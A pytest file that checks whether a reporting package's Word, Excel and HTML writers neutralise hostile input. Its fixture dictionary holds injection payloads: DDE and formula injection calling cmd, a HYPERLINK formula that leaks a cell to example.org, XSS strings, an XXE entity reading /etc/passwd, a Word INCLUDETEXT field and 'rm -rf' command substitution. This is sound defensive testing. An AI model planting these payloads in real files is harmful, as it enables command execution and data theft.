"""Names that attack: the files open, nothing in them runs, nothing is cut unseen."""

import re
import zipfile
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pytest
from document_sample import DAYS, sample_document
from docx.oxml.ns import qn
from lxml import etree

from tracker.charts import Chart, Line, Mark, Ranked, RankingChart
from tracker.tables import COUNT, Cell, Column, Origin, Table, numbered
from tracker.text.printable import whole
from tracker.writers import Document, Heading, Masthead, Paragraph
from tracker.writers.excel import write_excel
from tracker.writers.page import Listed, write_list, write_page
from tracker.writers.word import write_word

pytestmark = pytest.mark.filterwarnings("ignore:Glyph")
"""Pictures have no letters for emoji: they show boxes."""

HOSTILE = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": '-2+3+cmd|" /C calc"!A0',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.org/?x="&A1,"Huế")',
    "link": "http://example.org/a b",
    "script": "<script>alert(1)</script>",
    "break out": '"><img src=x onerror=alert(1)>',
    "end script": "</script><script>alert(1)</script><!--",
    "end style": "</style><svg onload=alert(1)>",
    "xml": "]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; <w:t>",
    "entities": "A & B &amp; &#60;b&#62; &nbsp;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %s {0}",
    "field": "{ INCLUDETEXT 'file:///etc/passwd' } \\* MERGEFORMAT DDEAUTO",
    "direction": "tên \u202egnp.exe\u202c \u200f\u2066x\u2069",
    "lines": "dòng một\nhai\r\nba\u2028bốn\u2029năm\x0bsáu",
    "emoji": "Huế 🇻🇳 👩‍👩‍👧‍👦 😀",
    "control": "a\x00b\x01c\x1bd\x7fe\x9ff",
    "surrogates": "a\ud800b\udfffc",
    "non-characters": "a\ufffeb\uffffc\ufdd0d",
    "long": "ư" * 10_000 + " hết",
    "long words": "từ ngữ " * 1500 + "hết",
    "code": "$(rm -rf /) `id` ../../etc/passwd \\\\host\\share",
    "mathtext": "$x_1$ \\frac{1}{2} ^2_3",
    "sheet": "[Book1]Sheet1!A1:B2'*?/\\",
    "quotes": "a'b\"c`d",
    "header": '&C&"Arial"&P &D',
    "tabs": "a\tb",
}
NAMES = tuple(HOSTILE.values())


def hostile_document() -> Document:
    """Put every name into every place that a person can fill."""
    columns = (Column("Tên <b>"), *(Column(name, COUNT, unit=name) for name in NAMES[:3]))
    origin = Origin(NAMES[6], NAMES[7], "public", NAMES[8], source=NAMES[0])
    rows = tuple(
        (Cell(text=name), Cell(1, origin=origin), Cell(reason=name), Cell(2.5, low=1.0))
        for name in NAMES
    )
    table = numbered(Table("H", NAMES[0], columns, rows, NAMES, NAMES[:2], merged=1))
    values = tuple(float(week) for week in range(60))
    charts = (
        Chart(
            NAMES[7],
            NAMES[8],
            NAMES[9],
            tuple(Line(name, DAYS, values) for name in (*NAMES[:5], NAMES[20], NAMES[18])),
            tuple(Mark(DAYS[3 + place], name, "event") for place, name in enumerate(NAMES)),
        ),
        RankingChart(
            NAMES[0],
            NAMES[6],
            NAMES[0],
            tuple(Ranked(name, float(place), 0.0, 99.0) for place, name in enumerate(NAMES)),
        ),
    )
    small = sample_document()
    return replace(
        small,
        masthead=Masthead((NAMES[4], NAMES[6]), NAMES[7], NAMES[8], (NAMES[9],)),
        kind=NAMES[6],
        subject=NAMES[8],
        period=NAMES[0],
        addressee=NAMES[7],
        as_of_line=NAMES[9],
        edition_line=NAMES[10],
        blocks=(
            *(Heading(1 + place % 3, name) for place, name in enumerate(NAMES)),
            *(Paragraph(name) for name in NAMES),
            *charts,
            table,
        ),
        annex=(Heading(1, NAMES[8]), table),
        definitions=Table("", NAMES[6], (Column(NAMES[0]),), ((Cell(text=NAMES[8]),),)),
        passport=table,
        signature=NAMES[6:9],
        recipients=NAMES[6:9],
        mark=HOSTILE["header"] + HOSTILE["script"],
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("hostile")
    document = hostile_document()
    write_word(document, made / "a.docx")
    write_excel(document, made / "a.xlsx")
    write_page(document, made / "a.html")
    listed = [Listed(name, ((name, name[:80]),), name) for name in NAMES]
    write_list(NAMES[6], listed, NAMES, made / "list.html", NAMES[7])
    return made


class Page(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def flat(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("name", HOSTILE)
def test_the_whole_name_stands_in_all_three_files(folder: Path, name: str) -> None:
    """What no file can hold (control characters, marks of direction) is left out, nothing else."""
    wanted = flat(whole(HOSTILE[name]))
    assert wanted in word_words(folder)
    assert wanted in page_words(folder)
    assert any(wanted in one for one in book_words(folder))


_words: dict[str, str] = {}


def word_words(folder: Path) -> str:
    if "word" not in _words:
        body = docx.Document(str(folder / "a.docx")).element.body
        breaks = {qn("w:p"): "\n", qn("w:br"): "\n"}
        _words["word"] = flat(
            "".join(
                breaks.get(one.tag) or (one.text or "") * (one.tag == qn("w:t"))
                for one in body.iter()
            )
        )
    return _words["word"]


def page_words(folder: Path) -> str:
    if "page" not in _words:
        _words["page"] = flat("".join(Page((folder / "a.html").read_text("utf-8")).words))
    return _words["page"]


def book_words(folder: Path) -> list[str]:
    if "book" not in _words:
        book = openpyxl.load_workbook(folder / "a.xlsx", read_only=True)
        _words["book"] = "\x00".join(
            flat(str(value))
            for sheet in book
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if isinstance(value, str)
        )
    return _words["book"].replace(" (tiếp)\x00(tiếp) ", "").split("\x00")


def test_the_page_runs_nothing_and_reaches_nowhere(folder: Path) -> None:
    for name, scripts in (("a.html", 4), ("list.html", 0)):
        page = Page((folder / name).read_text(encoding="utf-8"))
        assert page.tags.count("script") == scripts
        assert not {"svg", "iframe", "object", "embed", "form", "input", "link"} & set(page.tags)
        assert page.tags.count("img") == (2 if scripts else 0)
        for attribute, value in page.attributes:
            assert not attribute.startswith("on")
            if attribute == "href":
                assert not re.match(r"\s*([a-z]+:|//)", value, re.I), value
            elif attribute == "src":
                assert value.startswith(("data:image/png;base64,", "tep/plotly-")), value


def test_data_of_figures_cannot_end_their_script(folder: Path) -> None:
    text = (folder / "a.html").read_text(encoding="utf-8")
    for found in re.findall(r'<script type="application/json">(.*?)</script>', text, re.S):
        assert "<" not in found
        assert found.startswith("{")
        assert found.endswith("}")


def test_the_workbook_holds_no_formula_no_link_and_no_command(folder: Path) -> None:
    with zipfile.ZipFile(folder / "a.xlsx") as file:
        for name in file.namelist():
            content = file.read(name)
            if name.endswith((".xml", ".rels")):
                etree.fromstring(content)
            assert not re.search(rb"<hyperlinks?[ >]", content)
            assert b'TargetMode="External"' not in content
            assert b"ddeLink" not in content
            if "worksheets/" in name:
                assert b"<f>" not in content
            for formula in re.findall(rb"<c:f>([^<]*)</c:f>", content):
                assert formula.startswith("'Dữ liệu biểu đồ'!$".encode())
    book = openpyxl.load_workbook(folder / "a.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d"}


def test_the_word_file_holds_no_field_but_the_page_number_and_no_link(folder: Path) -> None:
    with zipfile.ZipFile(folder / "a.docx") as file:
        for name in file.namelist():
            content = file.read(name)
            assert b'TargetMode="External"' not in content
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(content)
                assert not root.getroottree().docinfo.doctype
                fields = ["".join(one.itertext()) for one in root.iter(qn("w:instrText"))]
                assert set(fields) <= {"PAGE"}
                assert not list(root.iter(qn("w:hyperlink"), qn("w:fldSimple")))


def test_line_ends_become_lines_and_not_letters(folder: Path) -> None:
    body = docx.Document(str(folder / "a.docx")).element.body
    assert not [one for one in body.iter(qn("w:t")) if "\n" in (one.text or "")]
    assert "dòng một" in word_words(folder)


def test_dates_beyond_calendars_and_huge_numbers_do_not_break_a_file(tmp_path: Path) -> None:
    columns = (Column("a", COUNT), Column("b"), Column("c", COUNT))
    rows = (
        (Cell(10**30), Cell(date(1, 1, 1)), Cell(1e300)),
        (Cell(-(10**18)), Cell(date(9999, 12, 31)), Cell(5e-324)),
    )
    small = sample_document()
    document = replace(small, blocks=(Table("X", "Bảng 1. X", columns, rows),))
    write_word(document, tmp_path / "a.docx")
    write_excel(document, tmp_path / "a.xlsx")
    write_page(document, tmp_path / "a.html")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Bảng 1"]
    assert sheet["A6"].value == "1" + ".000" * 10
    assert sheet["B6"].value == "01/01/0001"
    assert "31/12/9999" in (tmp_path / "a.html").read_text("utf-8")
